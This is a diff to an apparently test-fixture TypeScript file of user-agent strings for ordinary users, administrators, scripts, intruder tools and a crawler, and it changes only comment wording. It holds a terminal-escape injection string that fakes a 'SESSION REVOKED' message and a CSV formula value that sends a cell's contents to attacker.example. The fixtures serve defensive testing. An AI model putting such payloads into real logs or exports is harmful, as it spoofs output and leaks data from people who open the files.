@@ -4,7 +4,7 @@ const mozilla = (rest: string) => `Mozilla/5.0 ${rest}`;
 const webkit = 'AppleWebKit/537.36 (KHTML, like Gecko)';
 const safari = 'AppleWebKit/605.1.15 (KHTML, like Gecko)';
 
-/** What people sign in with. The first ones are picked more often: they stand here several times. */
+/** User agents of ordinary users. Earlier lines are picked more often, so some appear several times. */
 export const personalAgents: UserAgents = [
   mozilla(`(Windows NT 10.0; Win64; x64) ${webkit} Chrome/142.0.0.0 Safari/537.36`),
   mozilla(`(Windows NT 10.0; Win64; x64) ${webkit} Chrome/142.0.0.0 Safari/537.36`),
@@ -37,13 +37,13 @@ export const personalAgents: UserAgents = [
   'okhttp/4.12.0',
 ];
 
-/** What an administrator signs in with. */
+/** User agents of administrators. */
 export const deskAgents: UserAgents = [
   mozilla(`(Macintosh; Intel Mac OS X 10_15_7) ${webkit} Chrome/142.0.0.0 Safari/537.36`),
   mozilla('(Macintosh; Intel Mac OS X 10.15; rv:144.0) Gecko/20100101 Firefox/144.0'),
 ];
 
-/** What scripts and build servers sign in with. */
+/** User agents of scripts and build servers. */
 export const scriptAgents: UserAgents = [
   'curl/8.5.0',
   'python-requests/2.32.3',
@@ -52,7 +52,7 @@ export const scriptAgents: UserAgents = [
   'axios/1.12.2',
 ];
 
-/** What an intruder's tools sign in with. */
+/** User agents of an intruder's tools. */
 export const intruderAgents: UserAgents = [
   mozilla(`(X11; Linux x86_64) ${webkit} HeadlessChrome/131.0.0.0 Safari/537.36`),
   'python-requests/2.31.0',
@@ -60,9 +60,9 @@ export const intruderAgents: UserAgents = [
 
 export const botAgent = mozilla('(compatible; Googlebot/2.1; +http://www.google.com/bot.html)');
 
-/** Clears the screen, claims to be someone else's output, and turns the rest of the line around. */
+/** Clears the screen, imitates another program's output, and reverses the rest of the line. */
 export const terminalAttackAgent =
   'Mozilla/5.0 \u001b[2J\u001b[1;31mSESSION REVOKED\u001b[0m\r\n\u202egro.elpmaxe\u202c\u0007 (\u009b31m)';
 
-/** A spreadsheet runs this when it opens the CSV, unless it is defused. */
+/** A spreadsheet executes this when it opens the CSV, unless it is defused. */
 export const formulaAgent = '=HYPERLINK("https://attacker.example/?leak="&A1,"Details")';
